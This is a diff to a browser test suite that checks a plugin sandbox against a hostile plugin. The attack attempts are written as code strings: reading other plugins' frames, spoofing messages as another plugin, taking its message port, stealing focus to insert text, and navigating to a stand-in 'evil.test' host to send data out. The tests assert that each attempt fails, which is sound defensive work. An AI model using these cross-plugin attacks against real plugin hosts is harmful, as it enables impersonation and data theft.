@@ -4,12 +4,13 @@ import type { AddressInfo } from 'node:net'
 import type { Browser } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { hasBrowser, openBrowser } from '../../harness/ui.ts'
+import { until } from '../../harness/until.ts'
 import {
   button,
   conversation,
   counting,
   drawing,
-  type Opened,
+  frameOf,
   type PlacedPlugins,
   placedPlugins,
 } from './placed-plugins.ts'
@@ -54,16 +55,16 @@ const attempts: Record<string, string> = {
     document.body.append(frame)
     frame.contentWindow.document.title
   })`,
-  'reads another plugin': 'parent.frames[0].document.title',
+  'reads another plugin': '(await others()).map((other) => other.document.title)',
   'speaks as another plugin': `new Promise(() => {
     for (const type of ['ready', 'failed', 'call', 'hello'])
-      parent.postMessage({ type, plugin: 'good', slots: [], views: [], slot: null, reason: 'spoofed' }, '*')
+      parent.postMessage({ type, plugin: 'good', slot: 'compose.extension', reason: 'spoofed' }, '*')
   })`,
-  'takes the port of another plugin': `new Promise((yes) => {
-    for (let n = 0; n < parent.frames.length; n++) {
+  'takes the port of another plugin': `new Promise(async (yes) => {
+    for (const other of await others()) {
       const { port1, port2 } = new MessageChannel()
       port2.onmessage = yes
-      parent.frames[n].postMessage({ type: 'hello', version: 1, surroundings: {}, view: null }, '*', [port1])
+      other.postMessage({ type: 'hello', version: 1, surroundings: {}, slot: 'compose.extension', props: {} }, '*', [port1])
     }
   })`,
 }
@@ -75,6 +76,13 @@ const asksTheHost: Record<string, string> = {
 /** Runs each attempt, and counts it as refused after a second. */
 const trying = `
 const refused = () => { throw new Error('refused') }
+/** The frames of other plugins, as soon as there are any. */
+const others = () => new Promise((yes) => {
+  const looking = setInterval(() => {
+    const found = Array.from({ length: parent.frames.length }, (_, n) => parent.frames[n]).filter((one) => one !== window)
+    if (found.length > 0) yes(found)
+  }, 20)
+})
 const names = []
 const tried = (name, attempt) => Promise.race([
   new Promise((resolve) => setTimeout(resolve, 1_000)),
@@ -102,23 +110,22 @@ describe.skipIf(!hasBrowser)('a plugin that means harm', () => {
     })
     await once(elsewhere.listen(0, '127.0.0.1'), 'listening')
     const evil = `http://evil.test:${(elsewhere.address() as AddressInfo).port}`
-    const at = (code: string) => drawing(code.replaceAll('EVIL', evil))
+    const at = (code: string) => code.replaceAll('EVIL', evil)
     placed = await placedPlugins({
       good: { code: counting },
-      tree: {
-        code: at(`${trying}\nregisterSlot('compose.extension', async ({ ui, host }) => ui.text(await all(host)))`),
-      },
-      view: {
-        code: at(
-          `${trying}\nregisterView('sidebar.panel', async (element, { host }) => { element.textContent = await all(host) })`,
-        ),
+      harm: {
+        code: at(`${trying}\n${drawing('all(host).then((done) => { element.textContent = done })', 'sidebar.panel')}`),
         slots: ['sidebar.panel'],
       },
-      leaver: {
-        code: at(`registerView('sidebar.panel', () => { location.href = 'EVIL/?text' })`),
-        slots: ['sidebar.panel'],
+      leaver: { code: at(drawing(`location.href = 'EVIL/?text'`, 'sidebar.panel')), slots: ['sidebar.panel'] },
+      reader: { code: button('Peek', 'async () => { await host.getMessage(1) }') },
+      focused: {
+        code: drawing(`
+          const field = document.createElement('input')
+          element.append(field)
+          const trying = setInterval(() => { field.focus(); host.insertText('spoofed') }, 20)
+          setTimeout(() => { clearInterval(trying); host.log.info('tried') }, 500)`),
       },
-      reader: { code: button("'Peek'", 'async () => { await host.getMessage(1) }') },
     })
   })
   afterAll(async () => {
@@ -127,26 +134,18 @@ describe.skipIf(!hasBrowser)('a plugin that means harm', () => {
     elsewhere?.close()
   })
 
-  const doneBy = async ({ page }: Opened, name: string): Promise<string> => {
-    const said =
-      name === 'tree'
-        ? page.getByText('Done: ')
-        : page.frameLocator('[title="Plugin: view"]').first().getByText('Done: ')
-    return (await said.textContent()) ?? ''
-  }
-
-  test.each(['tree', 'view'])('gains nothing as a %s, whatever it tries', async (name) => {
-    await using opened = await placed.open({ browser, on: ['good', name] })
+  test('gains nothing, whatever it tries', async () => {
+    await using opened = await placed.open({ browser, on: ['good', 'harm'] })
     const { page } = opened
-    const done = await doneBy(opened, name)
+    const done = (await frameOf(page, 'harm', 'sidebar.panel').getByText('Done: ').textContent()) ?? ''
     for (const attempt of [...Object.keys(attempts), ...Object.keys(asksTheHost)])
       expect.soft(done, attempt).not.toContain(attempt)
     expect(page.url()).toBe(`${placed.web.url}${conversation}`)
     expect(page.context().pages()).toHaveLength(1)
     expect(arrived).toEqual([])
     expect(await page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('')
-    await page.getByRole('button', { name: 'Good 0' }).click()
-    await page.getByRole('button', { name: 'Good 1' }).waitFor()
+    await frameOf(page, 'good').getByRole('button', { name: 'Good 0' }).click()
+    await frameOf(page, 'good').getByRole('button', { name: 'Good 1' }).waitFor()
   })
 
   test('a plugin that navigates its own frame away is removed from the page, and no request was made', async () => {
@@ -155,9 +154,16 @@ describe.skipIf(!hasBrowser)('a plugin that means harm', () => {
     expect(arrived).toEqual([])
   })
 
+  test('a plugin that takes the focus before anyone has used it writes nothing', async () => {
+    await using opened = await placed.open({ browser, on: ['focused'] })
+    // A look into the frame would count as use of it: the automation of the browser acts as its user.
+    await until(async () => (await placed.web.client.log_history({ source: 'focused' })).length > 0)
+    expect(await opened.page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('')
+  })
+
   test('a plugin that makes forbidden calls is stopped if it ignores the refusal', async () => {
     await using opened = await placed.open({ browser, on: ['reader'] })
-    await opened.page.getByRole('button', { name: 'Peek' }).click()
+    await frameOf(opened.page, 'reader').getByRole('button', { name: 'Peek' }).click()
     await opened.page.getByRole('status').filter({ hasText: 'reader stopped' }).waitFor()
   })
 })
